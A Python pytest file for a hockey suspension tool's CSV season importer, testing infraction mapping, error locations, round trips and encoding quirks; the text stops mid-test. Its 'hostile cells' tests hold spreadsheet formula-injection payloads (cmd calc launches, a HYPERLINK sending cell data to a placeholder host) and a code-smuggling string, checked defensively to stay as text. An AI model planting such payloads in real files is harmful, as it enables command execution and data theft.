"""A season as a folder of CSV files (hockeyrules/csvio.py, docs/csv-import.md).

The example folder gives the suspensions of the hand-written season; every
mapping rule; every error with its file and line; the round trip; hostile cells.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest

from hockeyrules import evaluate
from hockeyrules.csv_mapping import RULE_CODES, Mapping, MappingError
from hockeyrules.csvio import import_folder, load_any, load_folder, read_folder, write_folder
from hockeyrules.errors import InputError
from hockeyrules.loader import read
from hockeyrules.season import from_data
from hockeyrules.vocabulary import RULED_INFRACTIONS

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "examples" / "csv-season"
CONTRACT = ROOT / "tests" / "contract"


# ---------------------------------------------------------------- helpers
SETTINGS = "key,value\nclock,remaining\n"
TEAMS = "id,name\nA,Alpha\nB,Bravo\n"
PEOPLE = ("id,name,team,role\nA1,Player A1,A,player\nA2,Player A2,A,player\nCA,Coach A,A,head_coach\n"
          "B1,Player B1,B,player\nB2,Player B2,B,player\nCB,Coach B,B,head_coach\n")
GAMES = "id,date,home,away,kind\nG1,2025-10-01,A,B,regular\nG2,2025-10-08,A,B,regular\n"
HEADER = "game,person,period,time,infraction,penalty,minutes\n"


def folder(tmp_path: Path, incidents: str = HEADER, name: str = "season", **files) -> Path:
    """A season folder: the small league above, with the given incidents.csv and other files."""
    path = tmp_path / name
    path.mkdir()
    content = {"settings.csv": SETTINGS, "teams.csv": TEAMS, "people.csv": PEOPLE, "games.csv": GAMES,
               "incidents.csv": incidents}
    content.update({k.replace("_", ".", 1) if "_csv" in k else k: v for k, v in files.items()})
    for file, text in content.items():
        if text is None:
            continue
        data = text if isinstance(text, bytes) else text.encode("utf-8")
        (path / file).write_bytes(data)
    return path


def incidents_of(path: Path, game: int = 0, **kw) -> list:
    return read_folder(path, **kw)["games"][game]["incidents"]


def problems(path: Path, reader=import_folder, **kw) -> list[tuple]:
    with pytest.raises(InputError) as exc:
        reader(path, **kw)
    return [(p.where, p.line, p.message) for p in exc.value.problems]


def one_problem(path: Path, reader=read_folder, **kw) -> tuple:
    found = problems(path, reader, **kw)
    assert len(found) == 1, found
    return found[0]


def comparable(result: dict) -> dict:
    """A result@1 dict as the contract compares it (warnings without their lines)."""
    out = dict(result)
    out["warnings"] = sorted((w["where"], w["message"]) for w in result["warnings"])
    return out


def without_minutes(data: dict) -> dict:
    data = copy.deepcopy(data)
    for game in data["games"]:
        for incident in game.get("incidents", []):
            incident.pop("minutes", None)
    return data


# ---------------------------------------------------------------- the example folder
def test_example_folder_gives_the_suspensions_of_the_yaml_season():
    yaml_result = evaluate(EXAMPLE / "season.yaml").to_dict()
    csv_result = evaluate(load_folder(EXAMPLE)).to_dict()
    assert yaml_result["suspensions"], "the example must suspend someone"
    assert csv_result["suspensions"] == yaml_result["suspensions"]
    # the same warnings, located in the CSV files
    assert [w["message"] for w in csv_result["warnings"]] == [w["message"] for w in yaml_result["warnings"]]
    assert all(w["where"].startswith("games.csv, games[") for w in csv_result["warnings"])


def test_example_folder_is_the_yaml_season_apart_from_the_minutes_it_writes_out():
    data = read_folder(EXAMPLE)
    by_hand = read(EXAMPLE / "season.yaml").data
    assert without_minutes(data) == without_minutes(by_hand)
    # every incident of the export gives its minutes: the sum of its lines
    boarding = data["games"][1]["incidents"][1]
    assert boarding == {"person": "WPG-06", "period": 2, "time": "08:12", "infraction": "boarding",
                        "penalties": ["major", "game_misconduct"], "minutes": 15}


def test_example_folder_has_the_quirks_of_a_real_export():
    raw = {p.name: p.read_bytes() for p in EXAMPLE.glob("*.csv")}
    assert raw["games.csv"].startswith(b"\xef\xbb\xbf") and b";" in raw["games.csv"].splitlines()[0]
    incidents = raw["incidents.csv"].decode()
    for quirk in (",8:12,", ",08:12,", ",3rd,", ",OT,", ",Pre,", ",Post,", ",7.2,", "Checking from Behind",
                  ",GM,", ",Misc.,", "7.10(e) Joining a fight"):
        assert quirk in incidents, quirk
    assert '"Tremblay, Jean-Luc"' in raw["people.csv"].decode()
    people = {p["id"]: p for p in read_folder(EXAMPLE)["people"]}
    assert people["WPG-09"]["name"] == "Tremblay, Jean-Luc"
    assert people["BRA-21"]["affiliate"] is True


def test_load_any_reads_a_folder_or_a_file():
    assert evaluate(load_any(EXAMPLE)).to_dict()["suspensions"] == \
        evaluate(load_any(EXAMPLE / "season.yaml")).to_dict()["suspensions"]


# ---------------------------------------------------------------- round trip
@pytest.mark.parametrize("name", ["mu18aaa-2025-26.yaml", "six-teams-elapsed.json", "worked-example.yaml"])
def test_round_trip_gives_the_same_season_and_result(tmp_path, name):
    original = read(CONTRACT / name).data
    written = write_folder(original, tmp_path / "out")
    assert sorted(p.name for p in written) == sorted(
        ["settings.csv", "teams.csv", "people.csv", "games.csv", "dressed.csv", "incidents.csv", "decisions.csv"])
    back = read_folder(tmp_path / "out")
    assert back == original
    assert comparable(evaluate(back).to_dict()) == comparable(evaluate(original).to_dict())


def test_round_trip_matches_the_contract_result(tmp_path):
    original = read(CONTRACT / "six-teams-elapsed.json").data
    write_folder(original, tmp_path / "out", delimiter=";", bom=True)
    assert (tmp_path / "out" / "teams.csv").read_bytes().startswith(b"\xef\xbb\xbfid;name")
    got = evaluate(load_folder(tmp_path / "out")).to_dict()
    expected = json.loads((CONTRACT / "six-teams-elapsed.expected.json").read_text())
    assert got["suspensions"] == expected["suspensions"]


def test_round_trip_of_a_season_object_with_minutes_dressed_and_decisions(tmp_path):
    season = load_any(ROOT / "examples" / "mu18aaa-example.yaml")
    write_folder(season, tmp_path / "out")
    back = load_folder(tmp_path / "out")
    assert evaluate(back).to_dict()["suspensions"] == evaluate(season).to_dict()["suspensions"]
    assert [d.games for d in back.decisions] == [d.games for d in season.decisions]
    assert back.games[0].dressed == season.games[0].dressed


def test_minutes_are_spread_over_the_lines_and_come_back(tmp_path):
    data = read(CONTRACT / "worked-example.yaml").data
    data["games"][1]["incidents"][0]["minutes"] = 17      # [major, game_misconduct]: 5 + 12
    data["games"][0]["incidents"][0]["minutes"] = 0       # [major]: 0
    data["settings"]["pim"] = {"major": 6}
    write_folder(data, tmp_path / "out")
    lines = (tmp_path / "out" / "incidents.csv").read_text().splitlines()
    assert lines[1:] == ["G1,1,A1,1,15:00,charging,major,0,", "G2,1,A1,3,06:30,boarding,major,6,",
                         "G2,1,A1,3,06:30,boarding,game_misconduct,11,"]
    assert read_folder(tmp_path / "out") == data


def test_an_export_leaves_no_file_of_an_earlier_one(tmp_path):
    write_folder(read(EXAMPLE / "season.yaml").data, tmp_path / "out")
    data = read(CONTRACT / "worked-example.yaml").data
    write_folder(data, tmp_path / "out")
    assert read_folder(tmp_path / "out") == data            # no dressed lists, no decisions left over


def test_two_lines_alike_stay_two_incidents_by_their_incident_number(tmp_path):
    data = read(CONTRACT / "worked-example.yaml").data
    twice = {"person": "A1", "period": 1, "time": "10:00", "infraction": "roughing", "penalties": ["minor"]}
    data["games"][0]["incidents"] += [dict(twice), dict(twice)]
    write_folder(data, tmp_path / "out")
    assert read_folder(tmp_path / "out") == data


# ---------------------------------------------------------------- mapping rules
@pytest.mark.parametrize("text, code", [
    ("boarding", "boarding"),
    ("Checking from Behind", "checking_from_behind"),
    ("CHECKING_FROM_BEHIND", "checking_from_behind"),
    ("Cross-Checking", "cross_checking"),
    ("CFB", "checking_from_behind"),
    ("7.2", "boarding"),
    ("11.2", "abusive_behaviour"),
    ("Rule 7.5", "checking_from_behind"),
    ("7.10", "fighting"),
    ("7.10(b)", "fighting"),            # a clause of 7.10 falls back on 7.10
    ("7.2(a)", "boarding"),
    ("10.4(f)", "returning_after_ejection"),
    ("7.10(e) Joining a fight", "joining_fight"),
    ("7.10(e) - Secondary fight", "secondary_fight"),
    ("7.10e third man in", "joining_fight"),
    ("7.11(a) Instigator", "instigator"),
    ("Aggressor (7.11(a))", "aggressor"),
    ("10.4(e) first off the bench", "first_off_bench"),
    ("Leaving the bench", "left_bench"),
    ("Boarding (7.2)", "boarding"),
    ("Tripping 8.10", "tripping"),      # an ordinary infraction: read by its words
    ("Game Misconduct", "game_misconduct"),
    ("Too Many Men", "too_many_players"),
    ("Abuse of Officials", "abusive_behaviour"),
])
def test_infraction_words_and_rule_numbers(text, code):
    assert Mapping().infraction(text) == code


def test_every_rule_number_of_the_vocabulary_is_in_the_table():
    for code, rule in RULED_INFRACTIONS.items():
        assert code in RULE_CODES[rule]
        mapping = Mapping()
        if len(RULE_CODES[rule]) == 1:
            assert mapping.infraction(rule) == code
        assert mapping.infraction(f"{rule} {code}") == code
        assert mapping.infraction(code.replace("_", " ").title()) == code


@pytest.mark.parametrize("text, words", [
    ("7.10(e)", "ambiguous: it is joining_fight or secondary_fight"),
    ("7.11(a)", "ambiguous: it is instigator or aggressor"),
    ("10.4(e)", "ambiguous: it is first_off_bench or left_bench"),
    ("10.4", "ambiguous"),
    ("7.11", "ambiguous"),
    ("7.2 Roughing", "rule 7.2 is boarding, but the words name roughing (rule 7.9)"),
    ("7.10(e) Fighting", "rule 7.10(e) is joining_fight or secondary_fight, but the words name fighting"),
    ("99.9", "rule 99.9 is not in the table"),
    ("10.4(a)", "rule 10.4(a) is not in the table (rules of 10.4: 10.4(e) first_off_bench or left_bench; "
                "10.4(f) returning_after_ejection)"),
    ("Chekcing from behnd", "closest: checking_from_behind"),
    ("", "empty"),
])
def test_infraction_errors(text, words):
    with pytest.raises(MappingError) as exc:
        Mapping().infraction(text)
    assert words in str(exc.value)


@pytest.mark.parametrize("text, types", [
    ("Minor", ["minor"]), ("Double Minor", ["double_minor"]), ("Major", ["major"]),
    ("Misc.", ["misconduct"]), ("Misconduct", ["misconduct"]), ("Game Misconduct", ["game_misconduct"]),
    ("GM", ["game_misconduct"]), ("Gross Misconduct", ["gross_misconduct"]), ("Match", ["match"]),
    ("game_misconduct", ["game_misconduct"]), ("5 min Major", ["major"]), ("Minor (2)", ["minor"]),
    ("Minor + Misconduct", ["minor", "misconduct"]), ("Major; GM", ["major", "game_misconduct"]),
])
def test_penalty_words(text, types):
    assert Mapping().penalties(text) == types


def test_penalty_errors():
    with pytest.raises(MappingError, match="cannot map 'Majr' to a penalty type; closest: major"):
        Mapping().penalties("Majr")
    with pytest.raises(MappingError, match="cannot map 'Foo' to a penalty type"):
        Mapping().penalties("Minor + Foo")


@pytest.mark.parametrize("text, periods, value", [
    ("1st", 3, 1), ("2nd", 3, 2), ("3rd", 3, 3), ("1", 3, 1), ("3", 3, 3), ("4th", 3, 4), ("Period 2", 3, 2),
    ("OT", 3, "OT"), ("OT1", 3, "OT"), ("Overtime", 3, "OT"), ("OT2", 3, 5), ("2OT", 3, 5), ("OT3", 3, 6),
    ("OT2", 2, 4), ("Pre", 3, "pre"), ("pre-game", 3, "pre"), ("Post", 3, "post"), ("post-game", 3, "post"),
])
def test_periods(text, periods, value):
    assert Mapping().period(text, periods) == value


def test_shootout_is_an_error_unless_the_league_maps_it():
    with pytest.raises(MappingError, match="shootout: the season format has no shootout period"):
        Mapping().period("SO")
    assert Mapping({"periods": {"SO": "post"}}).period("SO") == "post"


@pytest.mark.parametrize("table, text, value", [
    ("roles", "Head Coach", "head_coach"), ("roles", "HC", "head_coach"), ("roles", "Asst. Coach", "assistant_coach"),
    ("roles", "Goalie", "player"), ("roles", "trainer", "trainer"), ("kinds", "Regular Season", "regular"),
    ("kinds", "Playoffs", "playoff"), ("kinds", "Preseason", "exhibition"), ("clocks", "Countdown", "remaining"),
    ("clocks", "Elapsed", "elapsed"),
])
def test_roles_kinds_and_clocks(table, text, value):
    assert Mapping().choice(table, text, "x") == value


def test_cells_of_an_incident_are_read(tmp_path):
    path = folder(tmp_path, HEADER + "G1,A1,3rd,8:12,Boarding,Major,5\n"
                                     "G1,B1,OT,0:08:12,Slashing,Minor,2\n"
                                     "G1,A2,Post,,Roughing,Misc.,10\n")
    assert incidents_of(path) == [
        {"person": "A1", "period": 3, "time": "08:12", "infraction": "boarding", "penalties": ["major"], "minutes": 5},
        {"person": "B1", "period": "OT", "time": "08:12", "infraction": "slashing", "penalties": ["minor"],
         "minutes": 2},
        {"person": "A2", "period": "post", "infraction": "roughing", "penalties": ["misconduct"], "minutes": 10},
    ]


def test_a_rule_column_is_read_with_the_words(tmp_path):
    path = folder(tmp_path, "game,person,period,time,rule,infraction,penalty\n"
                            "G1,A1,2,05:00,7.10(e),Joining a fight,Game Misconduct\n"
                            "G1,A2,2,05:00,7.2,,Major\n")
    assert [i["infraction"] for i in incidents_of(path)] == ["joining_fight", "boarding"]


def test_people_games_and_settings_cells_are_read(tmp_path):
    path = folder(tmp_path,
                  settings_csv="key,value\nclock,Countdown\nleague,MU18AAA\nPeriod Minutes,15\npim.major,6\n"
                               "pim.game_misconduct,12\nroster_limit,\n",
                  people_csv="Person ID,Name,Team,Role,Affiliate,Registered Team\nA1,x,A,Player,Yes,Virden U18 A\n"
                             "CA,y,A,HC,no,\nB1,,B,F,,\n",
                  games_csv="Game ID;Date;Start Time;Home;Visitor;Type\nG1;2025-9-1;7:30;A;B;Regular Season\n"
                            "G2;2025/10/08;;A;B;Playoffs\n")
    data = read_folder(path)
    assert data["league"] == "MU18AAA"
    assert data["settings"] == {"clock": "remaining", "period_minutes": 15, "pim": {"major": 6, "game_misconduct": 12}}
    assert data["people"] == [
        {"id": "A1", "name": "x", "team": "A", "role": "player", "affiliate": True, "registered_team": "Virden U18 A"},
        {"id": "CA", "name": "y", "team": "A", "role": "head_coach", "affiliate": False},
        {"id": "B1", "team": "B", "role": "player"},
    ]
    assert [(g["date"], g.get("start"), g["kind"]) for g in data["games"]] == [
        ("2025-09-01", "07:30", "regular"), ("2025-10-08", None, "playoff")]


def test_settings_may_come_from_the_caller(tmp_path):
    path = folder(tmp_path, settings_csv=None)
    assert read_folder(path, settings={"clock": "elapsed"})["settings"] == {"clock": "elapsed"}
    path = folder(tmp_path, name="two")
    assert read_folder(path, settings={"clock": "elapsed"})["settings"]["clock"] == "elapsed"


# ---------------------------------------------------------------- grouping
def test_lines_of_one_person_time_and_infraction_are_one_incident(tmp_path):
    path = folder(tmp_path, HEADER + "G1,A1,3rd,8:12,Boarding,Major,5\n"
                                     "G1,B1,1,10:00,Tripping,Minor,2\n"
                                     "G1,A1,3,08:12,7.2,Game Misconduct,10\n")
    assert incidents_of(path) == [
        {"person": "A1", "period": 3, "time": "08:12", "infraction": "boarding",
         "penalties": ["major", "game_misconduct"], "minutes": 15},
        {"person": "B1", "period": 1, "time": "10:00", "infraction": "tripping", "penalties": ["minor"], "minutes": 2},
    ]


def test_other_infraction_person_period_or_game_is_another_incident(tmp_path):
    path = folder(tmp_path, HEADER + "G1,A1,3,08:12,Boarding,Major,\n"
                                     "G1,A1,3,08:12,Roughing,Minor,\n"
                                     "G1,A2,3,08:12,Boarding,Major,\n"
                                     "G1,A1,2,08:12,Boarding,Major,\n"
                                     "G2,A1,3,08:12,Boarding,Major,\n")
    data = read_folder(path)
    assert len(data["games"][0]["incidents"]) == 4
    assert len(data["games"][1]["incidents"]) == 1


def test_minutes_are_left_out_unless_every_line_gives_them(tmp_path):
    path = folder(tmp_path, HEADER + "G1,A1,3,08:12,Boarding,Major,5\nG1,A1,3,08:12,Boarding,GM,\n")
    assert "minutes" not in incidents_of(path)[0]


def test_a_repeated_penalty_type_is_an_error_naming_both_lines(tmp_path):
    path = folder(tmp_path, HEADER + "G1,A1,3,08:12,Boarding,Major,5\nG1,B1,1,01:00,Tripping,Minor,\n"
                                     "G1,A1,3rd,8:12,7.2,Major,5\n")
    assert one_problem(path) == ("incidents.csv", 4, "column penalty: major repeated in one incident (also on "
                                                     "line 2): one person, one time, one infraction")


def test_different_stoppages_of_one_incident_are_an_error(tmp_path):
    path = folder(tmp_path, HEADER.replace("minutes", "stoppage") + "G1,A1,3,08:12,Boarding,Major,S1\n"
                                                                     "G1,A1,3,08:12,Boarding,GM,S2\n")
    assert one_problem(path) == ("incidents.csv", 3, "column stoppage: 'S2' differs from 'S1' on line 2, a line "
                                                     "of the same incident")


def test_the_incident_label_groups_and_must_agree(tmp_path):
    text = ("game,incident,person,period,time,infraction,penalty\n"
            "G1,1,A1,1,10:00,Roughing,Minor\nG1,2,A1,1,10:00,Roughing,Minor\nG1,2,A1,1,10:00,Roughing,Misc.\n")
    path = folder(tmp_path, text)
    assert [i["penalties"] for i in incidents_of(path)] == [["minor"], ["minor", "misconduct"]]
    path = folder(tmp_path, text + "G1,1,A2,1,10:01,Roughing,Major\n", name="bad")
    assert problems(path, read_folder) == [
        ("incidents.csv", 5, "column person: 'A2' differs from 'A1' on line 2, a line of the same incident '1'"),
        ("incidents.csv", 5, "column time: '10:01' differs from '10:00' on line 2, a line of the same incident '1'"),
    ]


# ---------------------------------------------------------------- errors with file and line
def test_each_unmappable_line_is_reported_with_file_line_and_column(tmp_path):
    path = folder(tmp_path, HEADER + "G1,A1,1,10:00,Tripping,Minor,2\n"      # line 2: fine
                                     "G1,A1,SO,,Tripping,Minor,2\n"           # 3
                                     "G9,A1,1,10:00,Tripping,Minor,2\n"       # 4
                                     "G1,A2,1,10:00,7.10(e),Minor,2\n"        # 5
                                     "G1,B1,1,10:00,Trpping,Minor,2\n"        # 6
                                     "G1,B2,1,10:00,Tripping,Minr,2\n"        # 7
                                     "G1,CA,1,10:00,Tripping,Minor,two\n"     # 8
                                     "G1,CB,x,10:00,Tripping,Minor,2\n",      # 9
                  people_csv=PEOPLE + "B3,Player B3,B,coach\n")               # people line 8
    found = problems(path, read_folder)
    assert [(w, line, m.split(":")[0]) for w, line, m in found] == [
        ("people.csv", 8, "column role"),
        ("incidents.csv", 3, "column period"),
        ("incidents.csv", 4, "column game"),
        ("incidents.csv", 5, "column infraction"),
        ("incidents.csv", 6, "column infraction"),
        ("incidents.csv", 7, "column penalty"),
        ("incidents.csv", 8, "column minutes"),
        ("incidents.csv", 9, "column period"),
    ]
    assert "unknown game 'G9' (not in games.csv)" in found[2][2]
    assert "closest: clipping, tripping" in found[4][2]


def test_season_problems_name_the_csv_file_and_line(tmp_path):
    path = folder(tmp_path, HEADER + "G1,A1,1,10:00,Tripping,Minor,2\n"
                                     "G1,ZZ,1,10:00,Tripping,Minor,2\n"       # line 3
                                     "G2,A1,2,25:00,Tripping,Minor,2\n"       # line 4
                                     "G2,A1,2,05:00,Tripping,Minor,-2\n",     # line 5
                  games_csv=GAMES + "G3,2025-13-01,A,A,regular\n",            # games line 4
                  teams_csv=TEAMS + "A,Again\n")                              # teams line 4
    assert problems(path) == [
        ("teams.csv, teams[2].id", 4, "duplicate team id 'A' (first at teams[0])"),
        ("games.csv, games[2].away", 4, "home and away are the same team 'A'"),
        ("games.csv, games[2].date", 4, "not a date: '2025-13-01'"),
        ("incidents.csv, games[0].incidents[1].person", 3, "unknown person 'ZZ'"),
        ("incidents.csv, games[1].incidents[0].time", 4, "25:00 lies outside a 20-minute period"),
        ("incidents.csv, games[1].incidents[1].minutes", 5, "negative minutes: -2"),
    ]


def test_line_and_season_problems_are_reported_together(tmp_path):
    path = folder(tmp_path, HEADER + "G1,ZZ,1,10:00,Tripping,Minor,2\nG1,A1,SO,,Tripping,Minor,2\n")
    assert [(where, line) for where, line, _ in problems(path)] == [
        ("incidents.csv, games[0].incidents[0].person", 2), ("incidents.csv", 3)]


def test_the_line_of_a_record_is_where_it_starts(tmp_path):
    people = 'id,name,team,role\nA1,"two\nlines",A,player\nB1,"three\n\nlines",B,player\nB2,x,B,nobody\n'
    path = folder(tmp_path, people_csv=people)
    assert one_problem(path) == ("people.csv", 7, "column role: unknown role 'nobody'; one of player, head_coach, "
                                                  "assistant_coach, trainer, manager")


def test_a_missing_clock_is_an_error(tmp_path):
    path = folder(tmp_path, settings_csv="key,value\nleague,X\n")
    assert one_problem(path) == ("settings.csv", None, "no clock: add the row clock,remaining (times as the "
                                                       "scoreboard shows them) or clock,elapsed (time played in "
                                                       "the period)")
    path = folder(tmp_path, settings_csv=None, name="none")
    assert one_problem(path) == ("settings.csv", None, "missing file (it gives at least the clock: a row "
                                                       "clock,remaining or clock,elapsed)")


def test_settings_errors(tmp_path):
    path = folder(tmp_path, settings_csv="key,value\nclock,sideways\nperiod_minutes,twenty\ncolour,red\n"
                                         "clock,elapsed\n")
    assert problems(path, read_folder) == [
        ("settings.csv", 2, "column value: unknown clock 'sideways'; one of remaining, elapsed"),
        ("settings.csv", 3, "column value: period_minutes must be a whole number, not 'twenty'"),
        ("settings.csv", 4, "column key: unknown setting 'colour'; known: format, league, season, clock, "
                            "period_minutes, regulation_periods, roster_limit, max_affiliate_games, pim.minor, "
                            "pim.double_minor, pim.major, pim.misconduct, pim.game_misconduct, pim.gross_misconduct, "
                            "pim.match, pim.game_ejection"),
        ("settings.csv", 5, "column key: 'clock' given twice (also on line 2)"),
    ]


def test_folder_shape_errors(tmp_path):
    path = folder(tmp_path, "game,person,when,infraction,penalty,Jersey\n",
                  teams_csv=None, incident_csv="x\n")
    assert problems(path, read_folder) == [
        ("incident.csv", None, "unknown file: a season folder holds settings.csv, teams.csv, people.csv, "
                               "games.csv, dressed.csv, incidents.csv, decisions.csv (rename it, or move it out "
                               "of the folder)"),
        ("teams.csv", None, "missing file (one row per record)"),
        ("incidents.csv", 1, "unknown column 'when'; the columns of incidents.csv are game, incident, person, team, "
                             "period, time, infraction, rule, penalty, minutes, stoppage (other names, or columns "
                             "to ignore, go in a mapping file)"),
        ("incidents.csv", 1, "unknown column 'Jersey'; the columns of incidents.csv are game, incident, person, "
                             "team, period, time, infraction, rule, penalty, minutes, stoppage (other names, or "
                             "columns to ignore, go in a mapping file)"),
        ("incidents.csv", 1, "missing column 'period'"),
        ("incidents.csv", 1, "missing column 'time'"),
    ]


def test_encoding_and_csv_errors(tmp_path):
    path = folder(tmp_path, HEADER + "G1,A1,1,10:00,Tripping,Minor,2\n",
                  people_csv="id,name,team,role\nA1,Fran\xe7ois,A,player\n".encode("latin-1"))
    assert one_problem(path) == ("people.csv", 2, "not UTF-8 text (byte 25): export the file as 'CSV UTF-8'")
    path = folder(tmp_path, HEADER + 'G1,A1,1,10:00,"Tripping,Minor,2\n', name="quote")
    assert one_problem(path) == ("incidents.csv", 2, "not readable as CSV: unexpected end of data")
    path = folder(tmp_path, HEADER + "G1,A1,1,10:00,Tripping,Minor,2,extra\n", name="cells")
    assert one_problem(path) == ("incidents.csv", 2, "a cell ('extra') in column 8, which has no header (the "
                                                     "header line names 7 columns)")


def test_a_team_column_must_agree_with_people(tmp_path):
    path = folder(tmp_path, "game,person,team,period,time,infraction,penalty\nG1,A1,B,1,10:00,Tripping,Minor\n")
    assert one_problem(path) == ("incidents.csv", 2, "column team: 'A1' plays for 'A' (people.csv), not 'B'")


def test_dressed_and_decisions(tmp_path):
    path = folder(tmp_path, HEADER + "G1,A1,1,10:00,Tripping,Minor,2\n",
                  dressed_csv="game,team,person\nG1,A,A1\nG1,,B1\nG1,A,A2\nG9,A,A1\nG2,B,\n",
                  decisions_csv="person,game,rule,set_games,add_games,date,reason\n"
                                "A1,G1,,2,,2025-10-02,\"a reason, with a comma\"\n")
    assert problems(path, read_folder) == [("dressed.csv", 5, "column game: unknown game 'G9' (not in games.csv)")]
    (path / "dressed.csv").write_text("game,team,person\nG1,A,A1\nG1,,B1\nG1,A,A2\nG2,B,\n")
    data = read_folder(path)
    assert data["games"][0]["dressed"] == {"A": ["A1", "A2"], "B": ["B1"]}
    assert data["games"][1]["dressed"] == {"B": []}
    assert data["decisions"] == [{"person": "A1", "game": "G1", "set_games": 2, "date": "2025-10-02",
                                  "reason": "a reason, with a comma"}]


# ---------------------------------------------------------------- the league's mapping file
def test_a_league_mapping_file_adds_words_columns_and_ignored_columns(tmp_path):
    mapping = tmp_path / "league-mapping.yaml"
    mapping.write_text('infractions:\n  "Check to the Head": head_contact\n  "7.10(e)-J": joining_fight\n'
                       'penalties:\n  GMSC: game_misconduct\nperiods:\n  SO: post\n'
                       'columns:\n  incidents.csv:\n    Offence Description: infraction\n'
                       'ignore_columns:\n  incidents.csv: [Jersey]\n')
    path = folder(tmp_path, "game,person,period,time,Offence Description,penalty,Jersey\n"
                            "G1,A1,1,10:00,Check to the Head,Major,17\nG1,A1,1,10:00,Check to the Head,GMSC,17\n"
                            "G1,B1,SO,,7.10(e)-J,GMSC,4\n")
    assert incidents_of(path, mapping=mapping) == [
        {"person": "A1", "period": 1, "time": "10:00", "infraction": "head_contact",
         "penalties": ["major", "game_misconduct"]},
        {"person": "B1", "period": "post", "infraction": "joining_fight", "penalties": ["game_misconduct"]},
    ]
    assert problems(path, read_folder)[0][2].startswith("unknown column 'Offence Description'")


def test_rule_numbers_in_a_yaml_mapping_file_stay_text_and_a_dict_needs_text_keys(tmp_path):
    mapping = tmp_path / "m.yaml"
    mapping.write_text("infractions:\n  7.10: secondary_fight\n")   # the text 7.10, not the number 7.1
    assert Mapping.load(mapping).infraction("7.10") == "secondary_fight"
    assert Mapping.load(mapping).infraction("7.1") == "attempt_to_injure"
    with pytest.raises(InputError) as exc:
        Mapping.load({"infractions": {7.1: "fighting"}})
    assert [(p.where, p.message) for p in exc.value.problems] == [
        ("infractions.7.1", "write the text 7.1 in quotes: YAML reads 7.10 as the number 7.1")]


def test_a_league_mapping_file_as_csv_in_the_folder_itself(tmp_path):
    path = folder(tmp_path, HEADER + "G1,A1,Shootout,,Check to the Head,Major,5\n")
    (path / "mapping.csv").write_text("table;text;code\ninfractions;Check to the Head;head_contact\n"
                                      "periods;Shootout;post\n")
    incident = incidents_of(path, mapping=path / "mapping.csv")[0]
    assert (incident["infraction"], incident["period"]) == ("head_contact", "post")


def test_a_bad_mapping_file_is_an_error_with_its_lines(tmp_path):
    mapping = tmp_path / "m.yaml"
    mapping.write_text("infractions:\n  7.10: fighting\n  Spear: spearin\nperiods:\n  SO: 0\nextras: {}\n"
                       "columns:\n  incidents.csv: {Offence: nothing}\n")
    path = folder(tmp_path)
    assert problems(path, read_folder, mapping=mapping) == [
        ("infractions.Spear", 3, "unknown code 'spearin'; did you mean spearing or spitting or slashing?"),
        ("periods.SO", 5, "a period is a number from 1, OT, pre or post; not 0"),
        ("extras", 6, "unknown table; one of infractions, penalties, periods, roles, kinds, clocks, columns, "
                      "ignore_columns"),
        ("columns.incidents.csv.Offence", 8, "unknown column 'nothing' of incidents.csv; one of game, incident, "
                                             "person, team, period, time, infraction, rule, penalty, minutes, "
                                             "stoppage"),
    ]


# ---------------------------------------------------------------- encoding and dialect
def test_bom_semicolons_crlf_and_quoted_cells(tmp_path):
    people = ('\ufeffid;name;team;role\r\nA1;"O\'Neil; Alex ""The Wall""";A;player\r\n'
              'A2;"Smith, John\r\nJr.";A;player\r\nCA;Coach;A;head_coach\r\n'
              'B1;B1;B;player\r\nB2;B2;B;player\r\nCB;Coach;B;head_coach\r\n')
    path = folder(tmp_path, "\ufeffgame\tperson\tperiod\ttime\tinfraction\tpenalty\n"
                            "G1\tA1\t1\t10:00\tTripping\tMinor\n", people_csv=people.encode("utf-8"))
    data = read_folder(path)
    assert [p["name"] for p in data["people"][:2]] == ['O\'Neil; Alex "The Wall"', "Smith, John\r\nJr."]
    assert data["games"][0]["incidents"][0]["person"] == "A1"


def test_blank_rows_and_blank_trailing_columns_are_skipped(tmp_path):
    path = folder(tmp_path, HEADER.rstrip("\n") + ",,\n\nG1,A1,1,10:00,Tripping,Minor,2,,\n,,,,,,,,\n")
    assert len(incidents_of(path)) == 1


# ---------------------------------------------------------------- hostile cells
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'He said "hi",\nthen; left',
    'x"). suspended(Y) :- person(Y). #script (python)',
]


def test_hostile_cells_survive_as_text(tmp_path):
    data = read(CONTRACT / "worked-example.yaml").data
    data["league"] = HOSTILE[1]
    data["teams"][0]["name"] = HOSTILE[4]
    for person, text in zip(data["people"], HOSTILE):
        person["name"] = text
    data["people"][1]["registered_team"] = HOSTILE[0]
    data["games"][1]["incidents"][0]["stoppage"] = HOSTILE[5]
    write_folder(data, tmp_path / "out")
    assert "=cmd|' /C calc'!A0" in (tmp_path / "out" / "people.csv").read_text()
    back = read_folder(tmp_path / "out")
    assert back == data
    result = evaluate(load_folder(tmp_path / "out")).to_dict()
    assert result["league"] == HOSTILE[1]
    assert {s["name"] for s in result["suspensions"]} == {HOSTILE[0]}        # A1, suspended in the example
    assert result["suspensions"] == evaluate(data).to_dict()["suspensions"]


def test_hostile_ids_are_text_too(tmp_path):
    people = PEOPLE + '"=cmd|\' /C calc\'!A0","=1+1",A,player\n'
    path = folder(tmp_path, HEADER + '"=cmd|\' /C calc\'!A0",A1,1,10:00,Tripping,Minor,2\n'
                                     'G1,"=cmd|\' /C calc\'!A0",3,06:30,Boarding,"Major + GM",\n',
                  people_csv=people)
    with pytest.raises(InputError) as exc:
        read_folder(path)
    assert [(p.where, p.line) for p in exc.value.problems] == [("incidents.csv", 2)]
    assert "unknown game \"=cmd|' /C calc'!A0\"" in exc.value.problems[0].message
    (path / "incidents.csv").write_text(HEADER + 'G1,"=cmd|\' /C calc\'!A0",3,06:30,Boarding,"Major + GM",\n')
    season = from_data(read_folder(path))
    assert season.people["=cmd|' /C calc'!A0"].name == "=1+1"
    assert [s.person for s in evaluate(season).suspensions] == ["=cmd|' /C calc'!A0"]


# ---------------------------------------------------------------- the season read from a folder
def test_the_season_knows_its_csv_lines(tmp_path):
    path = folder(tmp_path, HEADER + "G1,B1,1,10:00,Tripping,Minor,2\n"
                                     "G1,A1,1,05:00,Checking from behind,Minor,2\n")
    data, season = import_folder(path)
    assert data["games"][0]["incidents"][1]["infraction"] == "checking_from_behind"
    incident = season.games[0].incidents[1]
